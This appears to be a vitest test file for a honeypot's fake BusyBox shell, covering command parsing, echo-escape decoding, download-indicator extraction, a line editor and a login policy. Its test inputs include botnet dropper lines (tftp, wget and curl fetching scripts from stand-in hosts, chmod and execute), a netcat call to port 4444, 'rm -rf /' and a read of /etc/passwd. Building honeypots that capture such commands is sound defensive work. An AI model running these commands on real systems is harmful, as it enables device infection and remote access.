/**
 * The fake BusyBox shell shared by telnet and ssh: parsing, echo escapes, indicators,
 * canned answers, caps — and that nothing it reads is ever more than text.
 */
import { describe, expect, it } from "vitest"
import { indicatorsOf } from "../../adapters/sensor/shell/indicators.js"
import { LoginPolicy } from "../../adapters/sensor/shell/logins.js"
import { decodeEchoEscapes, maxCommandsPerLine, parseLine } from "../../adapters/sensor/shell/parse.js"
import { FakeShell, maxOutputPerLine, mergeShellFacts } from "../../adapters/sensor/shell/Shell.js"
import { LineEditor } from "../../adapters/sensor/shell/terminal.js"
import type { TerminalInput } from "../../adapters/sensor/shell/terminal.js"

const argvs = (line: string) => parseLine(line).map((c) => [c.connector, ...c.argv])

describe("parseLine", () => {
  it("splits on operators and honours quotes, escapes, comments and redirections", () => {
    expect(argvs(`cd /tmp; wget http://h/x || curl -O 'http://h/y z' && echo "a \\"b\\" $X" | grep a & sh`)).toEqual([
      [";", "cd", "/tmp"],
      [";", "wget", "http://h/x"],
      ["||", "curl", "-O", "http://h/y z"],
      ["&&", "echo", 'a "b" $X'],
      ["|", "grep", "a"],
      ["&", "sh"]
    ])
    expect(parseLine("echo hi > /tmp/f 2>&1 # a comment")).toEqual([{ connector: ";", argv: ["echo", "hi"], redirectedTo: ["/tmp/f"] }])
    expect(parseLine("cat < /etc/passwd 2> /dev/null")).toEqual([{ connector: ";", argv: ["cat"], redirectedTo: ["/dev/null"] }])
    expect(argvs("echo a\\ b\nid")).toEqual([[";", "echo", "a b"], [";", "id"]])
  })

  it("keeps $(…) and backticks as plain text and caps commands per line", () => {
    expect(argvs("echo $(rm -rf /) `reboot`")).toEqual([[";", "echo", "$(rm", "-rf", "/)", "`reboot`"]])
    expect(parseLine("id;".repeat(500))).toHaveLength(maxCommandsPerLine)
  })
})

describe("decodeEchoEscapes", () => {
  it("decodes BusyBox echo -e escapes: the seed's octal probe, \\0NNN, \\xHH, C escapes, \\c", () => {
    expect(decodeEchoEscapes("\\147\\141\\171\\146\\147\\164").text).toBe("gayfgt")
    expect(decodeEchoEscapes("\\0101\\x42\\tC\\\\").text).toBe("AB\tC\\")
    expect(decodeEchoEscapes("stop\\chere")).toEqual({ text: "stop", stop: true })
    expect(decodeEchoEscapes("odd\\q").text).toBe("odd\\q")
  })
})

describe("indicatorsOf", () => {
  const of = (line: string) => indicatorsOf(line, parseLine(line))
  it("finds URLs and hosts in every way droppers spell a download", () => {
    expect(of("busybox tftp 23.94.47.60 -c get tftp1.sh")).toEqual({ urls: ["tftp://23.94.47.60/tftp1.sh"], hosts: ["23.94.47.60"] })
    expect(of("busybox tftp -r tftp2.sh -g 23.94.47.60")).toEqual({ urls: ["tftp://23.94.47.60/tftp2.sh"], hosts: ["23.94.47.60"] })
    expect(of("ftpget -u u -p p files.example.net bot /pub/bot")).toEqual({ urls: ["ftp://files.example.net/pub/bot"], hosts: ["files.example.net"] })
    expect(of("wget -O gtop.sh 198.51.100.7/gtop.sh")).toEqual({ urls: ["http://198.51.100.7/gtop.sh"], hosts: ["198.51.100.7"] })
    expect(of("curl -o x.sh https://evil.example:8443/a?b=1; nc 203.0.113.5 4444")).toEqual({
      urls: ["https://evil.example:8443/a?b=1"],
      hosts: ["203.0.113.5", "evil.example"]
    })
    expect(of("chmod 777 tftp1.sh; sh tftp1.sh")).toEqual({ urls: [], hosts: [] })
  })
})

describe("FakeShell", () => {
  const run = (shell: FakeShell, line: string) => shell.run(line)

  it("answers the BusyBox probes bots use to fingerprint a shell", () => {
    const sh = new FakeShell({ user: "root" })
    expect(sh.prompt).toBe("# ")
    expect(run(sh, "/bin/busybox ECCHI").output).toBe("ECCHI: applet not found\n")
    const probe = run(sh, "/bin/busybox; echo -e '\\147\\141\\171\\146\\147\\164'")
    expect(probe.output).toMatch(/^BusyBox v1\.31\.1 .* multi-call binary\.\n[\s\S]*Currently defined functions:\n[\s\S]*\ngayfgt\n$/)
    expect(probe.facts).toEqual({ commands: ["/bin/busybox; echo -e '\\147\\141\\171\\146\\147\\164'"], urls: [], hosts: [] })
    expect(run(sh, "enable").output).toBe("-sh: enable: not found\n")
    expect(run(sh, "busybox cat /proc/cpuinfo | grep -c processor; uname -m").output).toBe("1\narmv7l\n")
    expect(run(sh, "cat /proc/cpuinfo | grep processor | wc -l").output).toBe("1\n")
    expect(run(sh, "cat /bin/echo").output.slice(0, 4)).toBe("\x7fELF")
    expect(run(sh, "id; whoami; pwd").output).toBe("uid=0(root) gid=0(root) groups=0(root)\nroot\n/root\n")
  })

  it("keeps a session's invented files and directories, and runs `||`/`&&` by status", () => {
    const sh = new FakeShell({ user: "admin", hostname: "cam" })
    expect(sh.prompt).toBe("$ ")
    expect(run(sh, "cd /nowhere || cd /tmp && pwd").output).toBe("-sh: cd: can't cd to /nowhere: No such file or directory\n/tmp\n")
    const w = run(sh, "wget http://203.0.113.9/bins/x86 || curl -O http://203.0.113.9/bins/x86")
    expect(w.output).toMatch(/^Connecting to 203\.0\.113\.9 \(203\.0\.113\.9:80\)\nsaving to 'x86'\n[\s\S]*'x86' saved\n$/)
    expect(w.facts?.urls).toEqual(["http://203.0.113.9/bins/x86"])
    run(sh, "echo payload > out.txt; mkdir .x")
    expect(run(sh, "ls").output).toBe(".x  out.txt  x86\n")
    expect(run(sh, "./x86 arm7; ./missing").output).toBe("-sh: ./missing: not found\n")
    expect(run(sh, "cat out.txt").output).toBe("") // contents are never kept
    expect(run(sh, "rm -rf x86; ls /tmp").output).toBe(".x  out.txt\n")
    expect(run(sh, "uname -a").output).toBe("Linux cam 3.10.14 #1 SMP PREEMPT Tue Mar 12 16:41:02 CST 2019 armv7l GNU/Linux\n")
  })

  it("follows sh -c into its script, caps output per line, and leaves on exit", () => {
    const sh = new FakeShell({ user: "root" })
    const nested = run(sh, `sh -c "busybox tftp -g -r m.sh 198.51.100.2; echo done"`)
    expect(nested.output).toBe("done\n")
    expect(nested.facts?.urls).toEqual(["tftp://198.51.100.2/m.sh"])
    expect(run(sh, "cat /proc/cpuinfo;".repeat(60)).output.length).toBe(maxOutputPerLine)
    expect(run(sh, "   ")).toEqual({ output: "", facts: null, exit: false })
    expect(run(sh, "echo bye; exit; echo never")).toMatchObject({ output: "bye\n", exit: true })
  })

  it("merges the facts of several lines without duplicates", () => {
    const a = { commands: ["wget http://h.example/a"], urls: ["http://h.example/a"], hosts: ["h.example"] }
    const b = { commands: ["tftp -g -r a h.example"], urls: ["tftp://h.example/a"], hosts: ["h.example"] }
    expect(mergeShellFacts([a, b])).toEqual({ commands: [...a.commands, ...b.commands], urls: [...a.urls, ...b.urls], hosts: ["h.example"] })
  })
})

describe("LineEditor", () => {
  const feed = (editor: LineEditor, ...chunks: Array<string>) => {
    const inputs: Array<TerminalInput> = []
    let echo = ""
    for (const chunk of chunks) editor.push(Buffer.from(chunk, "latin1"), { echo: (t) => (echo += t), input: (i) => (inputs.push(i), true) })
    return { inputs, echo }
  }

  it("ends lines on CR LF, CR NUL, CR or LF (also split across chunks) and edits them", () => {
    const { inputs, echo } = feed(new LineEditor(), "ab\x7fc\r", "\nd\r\0e\nf\x15g\r")
    expect(inputs).toEqual([{ kind: "line", text: "ac" }, { kind: "line", text: "d" }, { kind: "line", text: "e" }, { kind: "line", text: "g" }])
    expect(echo).toBe("ab\b \bc\r\nd\r\ne\r\nf\b \bg\r\n")
  })

  it("reports ^C and ^D, hides input when echo is off, and cuts endless lines", () => {
    const e = new LineEditor(8)
    e.echo = false
    const { inputs, echo } = feed(e, "secret\x03", "\x04", "0123456789")
    expect(inputs).toEqual([{ kind: "interrupt" }, { kind: "eof" }, { kind: "line", text: "01234567" }])
    expect(echo).toBe("")
    expect(e.pending).toBe(2)
  })
})

describe("LoginPolicy", () => {
  it("lets the Nth attempt of a source in, counting across connections; 0 never", () => {
    const p = new LoginPolicy(2)
    expect([p.attempt("192.0.2.1"), p.attempt("192.0.2.2"), p.attempt("192.0.2.1"), p.attempt("192.0.2.1")].map((d) => d.accepted)).toEqual([false, false, true, true])
    const never = new LoginPolicy(0)
    expect(Array.from({ length: 5 }, () => never.attempt("192.0.2.1").accepted)).toEqual([false, false, false, false, false])
  })
})
